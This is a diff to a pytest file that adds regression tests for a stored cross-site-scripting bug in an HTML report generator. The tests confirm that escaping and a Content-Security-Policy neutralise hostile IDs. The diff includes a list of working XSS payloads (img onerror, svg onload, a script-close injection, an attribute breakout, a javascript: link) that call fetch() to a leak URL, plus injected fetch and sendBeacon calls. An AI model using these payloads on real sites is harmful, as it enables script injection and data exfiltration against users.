@@ -21,14 +21,16 @@ ARTIFACTS = Path(
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 
 
-def _round(lake, round_=0):
+def _round(lake, round_=0, *, tid=None, gid=None, source="test"):
     rng = np.random.default_rng(round_)
+    tid_of = tid or (lambda g, s: f"r{round_}g{g}s{s}")
+    gid_of = gid or (lambda g: f"g{g}")
     trajs, steps = [], []
     for g in range(3):
         for s in range(4):
-            tid = f"r{round_}g{g}s{s}"
+            tid = tid_of(g, s)
             trajs.append(
-                dict(traj_id=tid, group_id=f"g{g}", sample_idx=s, reward=float(s % 2), source="test")
+                dict(traj_id=tid, group_id=gid_of(g), sample_idx=s, reward=float(s % 2), source=source)
             )
             idx = 0
             for k in range(1, 4):
@@ -70,7 +72,7 @@ def _round(lake, round_=0):
         pa.Table.from_pylist(
             [
                 dict(
-                    traj_id=f"r{round_}g0s1",
+                    traj_id=tid_of(0, 1),
                     step_idx=1,
                     turn=1,
                     token_start=0,
@@ -346,3 +348,205 @@ def test_every_view_is_documented_in_the_readme():
     readme = (Path(__file__).resolve().parents[1] / "README.md").read_text()
     missing = [name for name in VIEWS if f"`{name}`" not in readme]
     assert not missing, f"views without a README entry: {missing}"
+
+
+# ---- the report is a page of someone else's data (issue #33) --------------------------------------------
+
+
+class _Listener:
+    """A web server on the loopback that counts what reaches it: the ground truth of 'nothing left'."""
+
+    def __init__(self):
+        import http.server
+        import threading
+
+        hits = self.hits = []
+
+        class H(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *a):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/leak"
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def listener():
+    ear = _Listener()
+    yield ear
+    ear.close()
+
+
+LEAK = "http://127.0.0.1:9/leak"  # replaced by the listener's address in the payloads
+HOSTILE = [
+    f"<img src=x onerror=\"window.__pwned='img';fetch('{LEAK}')\">",
+    f"<svg onload=\"window.__pwned='svg';fetch('{LEAK}')\"></svg>",
+    f"</script><script>window.__pwned='script';fetch('{LEAK}')</script>",
+    "<b>bold</b> &amp; <style>body{background:url(LEAK)}</style>".replace("LEAK", LEAK),
+    '" onmouseover="window.__pwned=\'attr\'" x="',
+    f'<iframe src="{LEAK}"></iframe><link rel=stylesheet href="{LEAK}">',
+    f'<a href="javascript:window.__pwned=\'href\'">x</a><img src="{LEAK}">',
+]
+
+
+def _hostile_lake(lake, leak):
+    """Every string the page shows from data is a payload: trajectory, group and source ids, a method name,
+    an edge's type and information unit, a span's behaviour and rule."""
+    bad = [h.replace(LEAK, leak) for h in HOSTILE]
+    _round(
+        lake,
+        0,
+        tid=lambda g, s: f"{bad[(4 * g + s) % len(bad)]}#{g}.{s}",
+        gid=lambda g: bad[g] + f"#g{g}",
+        source=bad[3],
+    )
+    adv = lake.read("advantages", 0)
+    evil = adv.filter(pc.equal(adv.column("method"), "flipped"))
+    evil = evil.set_column(evil.column_names.index("method"), "method", pa.array([bad[0]] * evil.num_rows))
+    lake.write_part(
+        "advantages", 0, evil.drop(["round"]) if "round" in evil.column_names else evil, part="b00000.evil"
+    )
+    from schemas.edges import SCHEMA
+
+    tids = lake.read("trajectories", 0).column("traj_id").to_pylist()
+    edges = [
+        dict(
+            traj_id=t,
+            src_turn=1,
+            dst_turn=2,
+            sign=1,
+            type="input",
+            info_unit=bad[4],
+            binding=bad[5],
+            annotator=bad[6],
+            prompt_version=None,
+        )
+        for t in tids
+    ]
+    lake.write_part("edges", 0, pa.Table.from_pylist(edges, schema=SCHEMA.remove(0)), part="b00000")
+    return bad
+
+
+def test_data_cannot_close_or_reopen_its_script_element():
+    """Data goes into the page as JSON in a non-running script element: no `<` in it at all (a `<!--<script>`
+    in a value would otherwise put the parser in a state where the element's own end tag is not one)."""
+    from pipeline.report import _json_script
+
+    value = {"a": ["</script><script>x()</script>", "<!--<script>", "&lt;", "<\\/script>"]}
+    out = _json_script("x", value)
+    body = out[len("<script type='application/json' id='x'>") : -len("</script>")]
+    assert "<" not in body and ">" not in body and "&" not in body
+    import json
+
+    assert json.loads(body) == value
+
+
+def _open(page, url, violations, requests):
+    page.on("request", lambda r: requests.append(r.url) if not r.url.startswith(("file:", "data:")) else None)
+    page.expose_function("__cspViolation", lambda d: violations.append(d))
+    page.add_init_script(
+        "document.addEventListener('securitypolicyviolation', e => "
+        "window.__cspViolation(e.violatedDirective + ' ' + e.blockedURI))"
+    )
+    page.goto(url)
+    page.wait_for_function("document.querySelectorAll('.js-plotly-plot').length >= 3")
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install chromium)")
+def test_hostile_ids_run_no_script_and_send_nothing(lake, tmp_path, listener):
+    """Issue #33: a traj_id `<img src=x onerror=fetch(...)>` ran its script when the report was opened. Every
+    value from data is text in the page: no payload runs, no element it names exists, nothing is requested,
+    and the page itself needs nothing its policy forbids (no violation report)."""
+    from playwright.sync_api import sync_playwright
+
+    bad = _hostile_lake(lake, listener.url)
+    out = run_report(lake.root, tmp_path / "report.html", quiet=True)
+    errors, requests, violations = [], [], []
+    with sync_playwright() as p:
+        browser, page = _chromium_page(p)
+        page.on("pageerror", lambda e: errors.append(str(e)))
+        _open(page, out.as_uri(), violations, requests)
+        opts = page.locator("#traj option").all_text_contents()
+        assert any(bad[0] in o for o in opts)  # the id is shown, as text
+        for sel in ("#traj", "#group"):  # every trajectory and group through the viewer and the group view
+            for value in page.locator(f"{sel} option").evaluate_all("os => os.map(o => o.value)"):
+                page.select_option(sel, value)
+        for value in page.locator("#method option").evaluate_all("os => os.map(o => o.value)"):
+            page.select_option("#method", value)
+        page.hover("#viewer .edge")
+        page.mouse.move(700, 600)
+        page.wait_for_timeout(300)
+        assert page.evaluate("() => window.__pwned") is None, "a payload ran"
+        assert listener.hits == [], f"a payload reached the network: {listener.hits}"
+        shown = page.inner_text("#viewer") + page.inner_text("#group-view")
+        assert "onerror" in shown and "</script>" in shown  # shown as text
+        made = page.evaluate(
+            "() => [...document.querySelectorAll('#viewer *, #group-view *, .legend *, td, th')]"
+            ".filter(e => ['IMG','SVG','SCRIPT','IFRAME','A','LINK'].includes(e.tagName.toUpperCase())"
+            " && !e.closest('.js-plotly-plot')).length"
+        )
+        assert made == 0
+        browser.close()
+    assert requests == [], f"the report asked the network for {requests[:3]}"
+    assert violations == [], violations  # nothing was even attempted
+    assert errors == [], errors
+    assert listener.hits == []
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install chromium)")
+def test_the_pages_policy_stops_what_escaping_might_miss(lake, tmp_path, listener):
+    """The second wall: markup put into the page by other means (a future bug) runs no inline handler or
+    script element, and no script of the page can reach the network."""
+    from playwright.sync_api import sync_playwright
+
+    _round(lake, 0)
+    out = run_report(lake.root, tmp_path / "report.html", quiet=True)
+    html = out.read_text()
+    csp = re.search(r"<meta http-equiv='Content-Security-Policy' content=\"([^\"]+)\">", html).group(1)
+    assert (
+        "connect-src 'none'" in csp
+        and "default-src 'none'" in csp
+        and "unsafe-inline" not in csp.split("style-src")[0]
+    )
+    assert html.index("Content-Security-Policy") < html.index("<script")
+    requests, violations, failed = [], [], []
+    leak = listener.url
+    with sync_playwright() as p:
+        browser, page = _chromium_page(p)
+        page.on("requestfailed", lambda r: failed.append((r.url, r.failure)))
+        _open(page, out.as_uri(), violations, requests)
+        assert violations == []  # the page's own scripts and Plotly's styles are allowed
+        page.evaluate(
+            f"""() => {{
+            const d = document.createElement('div');
+            d.innerHTML = `<img src=x onerror="window.__pwned='img'"><img src="{leak}">`;
+            document.body.appendChild(d);
+            const s = document.createElement('script');
+            s.textContent = "window.__pwned = 'script'";
+            document.body.appendChild(s);
+            fetch('{leak}').catch(() => null);
+            navigator.sendBeacon && navigator.sendBeacon('{leak}', 'x');
+            new Image().src = '{leak}';
+        }}"""
+        )
+        page.wait_for_timeout(500)
+        assert page.evaluate("() => window.__pwned") is None
+        browser.close()
+    assert listener.hits == [], listener.hits  # nothing reached the server
+    blocked = {u for u, why in failed if why == "csp"}  # Chromium names the reason
+    assert requests and set(requests) <= blocked, (requests, failed)  # what Chromium tried, it blocked
+    assert any("script-src" in v for v in violations) and any("connect-src" in v for v in violations), (
+        violations
+    )
